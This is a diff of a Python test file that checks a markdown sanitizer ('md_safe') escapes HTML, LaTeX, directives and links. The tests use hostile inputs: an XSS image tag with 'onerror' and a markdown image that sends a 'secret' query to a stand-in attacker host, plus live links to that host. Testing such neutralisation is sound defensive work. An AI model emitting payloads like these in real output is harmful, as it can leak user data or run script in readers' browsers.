@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from types import SimpleNamespace
 
 import ui_helpers as ui
@@ -36,9 +37,17 @@ def test_md_safe_keeps_formatting_but_shows_html_latex_and_directives_as_text():
     out = ui.md_safe('<img src=x onerror="alert(1)"> costs $5 and $7 :red[alarm] :smile: **bold**')
     assert "<img" not in out and "&lt;img" in out
     assert "\\$5" in out and "\\$7" in out
-    assert "\\:red[alarm]" in out and "\\:smile\\:" in out
+    assert "\\:red\\[alarm\\]" in out and "\\:smile\\:" in out
     assert "**bold**" in out  # the answer's own markdown still works
     assert ui.md_safe("R&D") == "R&amp;D"
+
+
+def test_md_safe_leaves_no_live_link_or_image():
+    out = ui.md_safe("See ![pixel](http://evil.example/?q=secret) and [click](https://evil.example) [1] "
+                     "<https://evil.example> https://evil.example\n[ref]: http://evil.example")
+    assert re.search(r"(?<!\\)\[", out) is None and re.search(r"(?<!\\)\]", out) is None
+    assert "&lt;https" in out and "https\\://" in out
+    assert "\\[1\\]" in out
 
 
 def test_md_text_shows_text_literally():
